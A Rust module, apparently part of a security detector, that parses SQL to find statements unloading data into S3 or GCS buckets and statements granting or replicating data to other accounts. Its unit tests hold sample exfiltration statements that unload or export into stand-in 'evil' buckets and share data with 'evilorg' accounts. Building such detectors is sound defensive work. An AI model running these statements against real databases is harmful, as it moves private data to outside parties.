//! Statements that make a database write its data into a bucket: `UNLOAD (…) TO 's3://…'` (Redshift, Athena), `COPY INTO
//! 's3://…' FROM …` (Snowflake), `EXPORT DATA OPTIONS (uri='gs://…')` (BigQuery), `aws_s3.query_export_to_s3(…,
//! aws_commons.create_s3_uri('bucket', …))` (RDS for PostgreSQL).
//!
//! And those that let another account in: `ALTER SHARE … ADD ACCOUNTS = …` (Snowflake), `GRANT … ON DATASHARE … TO ACCOUNT
//! '…'` (Redshift), ``GRANT `roles/…` … TO "user:…"`` (BigQuery).

/// The address that a statement unloads into. Only BigQuery has texts in double quotes.
pub(super) fn target(text: &str) -> Option<String> {
    target_in(text, '\'').or_else(|| target_in(text, '"').filter(|target| target.starts_with("gs://")))
}

fn target_in(text: &str, quote: char) -> Option<String> {
    let mut before = "";
    let mut whole = String::new();
    // What stands between quotes is every second part; a doubled quote begins and ends an empty one.
    for (at, part) in text.split(quote).enumerate() {
        if at % 2 == 0 {
            before = part;
            whole.push_str(&part.to_ascii_lowercase());
            continue;
        }
        let word = last_word(before);
        let unloads = match &*word {
            "to" => whole.contains("unload"),
            "into" => whole.contains("copy"),
            "uri" => whole.contains("export data"),
            "create_s3_uri" if whole.contains("query_export_to_s3") => return Some(format!("s3://{part}")),
            _ => false,
        };
        if unloads && part.contains("://") {
            return Some(part.to_owned());
        }
    }
    None
}

/// The word before a text that begins here; an `r` right before it says that it is raw.
fn last_word(text: &str) -> String {
    let raw = text.strip_suffix(['r', 'R']).filter(|front| !front.ends_with(char::is_alphanumeric));
    let text = raw.unwrap_or(text).trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | '('));
    let word = text.rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next();
    word.unwrap_or_default().to_ascii_lowercase()
}

/// Whom the statements of a text let in, by the service that it is said to.
pub(super) fn grants(text: &str) -> Vec<(&'static str, Vec<String>)> {
    /// Statements looked at in one text at most.
    const MAX_STATEMENTS: usize = 64;
    let lower = text.to_ascii_lowercase();
    lower.split(';').take(MAX_STATEMENTS).filter_map(granted).filter(|(_, with)| !with.is_empty()).collect()
}

fn granted(statement: &str) -> Option<(&'static str, Vec<String>)> {
    let words: Vec<&str> = statement.split_whitespace().collect();
    let begins = |front: &[&str]| words.starts_with(front);
    let after = |what: &str| statement.split_once(what).map(|(_, rest)| rest);
    if begins(&["grant"]) {
        if statement.contains(" on datashare ") {
            let to = after(" to account ").or_else(|| after(" to namespace "))?;
            return Some(("aws", quoted(to).take(1).map(str::to_owned).collect()));
        }
        let to = after(" to ").filter(|_| statement.contains("roles/"))?;
        let named = quoted(to).flat_map(|name| super::grantee::of(name).names);
        return Some(("gcp", named.map(|name| name.to_string()).collect()));
    }
    let shares = begins(&["alter", "share"]) && !words.contains(&"remove");
    let replicates = begins(&["alter", "database"])
        || statement.contains("replication group")
        || statement.contains("failover group");
    let list = match (shares, replicates) {
        (true, _) => after("accounts")?,
        (_, true) => after("allowed_accounts").or_else(|| after(" to accounts "))?,
        _ => return None,
    };
    Some(("snowflake", listed(list)))
}

/// What stands between quotes of either kind.
fn quoted(text: &str) -> impl Iterator<Item = &str> {
    text.split(['\'', '"']).skip(1).step_by(2)
}

/// `= org.one, org.two share_restrictions = false`: the list ends where no comma joins the next word to it.
fn listed(text: &str) -> Vec<String> {
    let text = text.trim_start_matches(|c: char| c.is_whitespace() || c == '=' || c == '(');
    let mut names = Vec::new();
    for part in text.split(',').take(64) {
        let mut words = part.split_whitespace();
        names.extend(words.next().map(|name| name.trim_matches(['"', '\'', ')']).to_owned()));
        if words.next().is_some() {
            break;
        }
    }
    names.retain(|name| !name.is_empty());
    names
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_is_written_to_counts() {
        for (statement, expected) in [
            ("UNLOAD ('select ''a'' from t') TO 's3://evil/x' IAM_ROLE default", Some("s3://evil/x")),
            ("copy into 's3://evil/x' from t storage_integration = i", Some("s3://evil/x")),
            (
                "EXPORT DATA OPTIONS ( uri = 'gs://evil/*.csv', format='CSV') AS SELECT 1",
                Some("gs://evil/*.csv"),
            ),
            (
                "EXPORT DATA OPTIONS(uri=\"gs://evil/x*\", format=\"CSV\") AS SELECT 'it' FROM t",
                Some("gs://evil/x*"),
            ),
            ("export data options(format='CSV', uri = r\"gs://evil/x*\") as select 1", Some("gs://evil/x*")),
            ("select \"uri\" from t where a = \"gs://b/x\"", None),
            (
                "select aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('evil', 'x', 'r'))",
                Some("s3://evil"),
            ),
            ("copy into t from 's3://public/x'", None),
            ("COPY t FROM 's3://public/x' IAM_ROLE default", None),
            (
                "select aws_s3.table_import_from_s3('t', '', '', aws_commons.create_s3_uri('b', 'x', 'r'))",
                None,
            ),
            ("update t set a = 'b' where c = 'to s3://x'", None),
            ("select 'it''s", None),
        ] {
            assert_eq!(target(statement).as_deref(), expected, "{statement}");
        }
    }

    #[test]
    fn grants_name_whom_they_let_in() {
        for (text, expected) in [
            (
                "ALTER SHARE s ADD ACCOUNTS = evilorg.acct, x2",
                Some(("snowflake", &["evilorg.acct", "x2"][..])),
            ),
            ("alter share s set accounts=x2 share_restrictions=false", Some(("snowflake", &["x2"]))),
            ("alter share s remove accounts = x2", None),
            (
                "alter database d enable replication to accounts evilorg.a, evilorg.b",
                Some(("snowflake", &["evilorg.a", "evilorg.b"])),
            ),
            (
                "create failover group g object_types = databases allowed_databases = d allowed_accounts = evilorg.a",
                Some(("snowflake", &["evilorg.a"])),
            ),
            (
                "select 1; GRANT USAGE ON DATASHARE s TO ACCOUNT '999988887777' VIA DATA CATALOG",
                Some(("aws", &["999988887777"])),
            ),
            (
                "grant `roles/bigquery.dataViewer` on schema d to \"user:eve@example.com\", \"allUsers\"",
                Some(("gcp", &["eve@example.com", "anyone"])),
            ),
            ("grant select on t to bob", None),
            ("grant usage on datashare s to group g", None),
            ("update t set accounts = 1", None),
            ("alter share", None),
            ("", None),
        ] {
            let found = grants(text);
            let found = found
                .first()
                .map(|(service, with)| (*service, with.iter().map(String::as_str).collect::<Vec<_>>()));
            assert_eq!(found, expected.map(|(service, with)| (service, with.to_vec())), "{text}");
        }
    }
}
